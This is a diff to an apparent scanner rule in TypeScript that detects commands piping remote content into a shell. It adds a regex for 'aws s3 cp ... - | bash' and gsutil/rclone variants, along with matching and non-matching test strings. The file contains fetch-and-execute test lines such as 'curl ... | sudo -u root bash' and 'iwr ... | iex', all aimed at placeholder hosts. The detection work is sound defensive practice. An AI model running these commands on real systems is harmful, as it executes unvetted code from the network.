@@ -42,6 +42,12 @@ export const rule: Rule = {
       window: 768,
       accept: isRun,
     },
+    // aws s3 cp s3://... - | sh
+    {
+      re: /(?<![\w.-])(?:aws\ss3\scp|(?:gsutil|rclone)\scat)\s[^\n|]*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh(?![\w-])/,
+      window: 300,
+      accept: isRun,
+    },
     // curl ... | MODE=x sh, | timeout 30 sh, | docker exec -i web sh: with a setting or a limit, of a container or another user
     {
       re: /(?<![\w.-])(?:curl|wget)\s[^\n]*\|\s*(?:(?:sudo\s+)?(?:timeout|nice|setsid|su|chroot|ssh|(?:docker|kubectl)\sexec|\w+=\S*)\s+(?:[\w.@/:="-]+\s+)*(?:ba|z|da)?sh|"?\$\{?SHELL)(?![\w/-])/,
@@ -102,6 +108,7 @@ export const rule: Rule = {
       'Invoke-WebRequest https://files.invalid/p.ps1 | Invoke-Expression',
       'iwr https://files.invalid/p.ps1 | Select-Object -ExpandProperty Content | iex',
       'curl -fsSL https://files.invalid/install.sh | sudo -u root bash',
+      'aws s3 cp s3://bucket.invalid/x.sh - | bash',
       'curl -s https://files.invalid/install.sh |& xargs -I{} bash -c {}',
       'bash < <(curl -s https://files.invalid/x)',
       'wget -qO- https://files.invalid/install.R | /usr/bin/env Rscript -',
@@ -121,6 +128,7 @@ export const rule: Rule = {
       'curl -s https://files.invalid/x.ts | deno fmt -',
       'iwr https://api.example.com/v1 | Select-Object -ExpandProperty Content',
       'curl https://api.example.com/v1 | jq .',
+      'aws s3 cp s3://bucket.invalid/x.sh . && echo done',
       'wget https://files.invalid/x.tar.gz',
       'curl and divergence',
       'Avoid `curl | bash`, also as `curl ... | sh`: you never know what you run.',
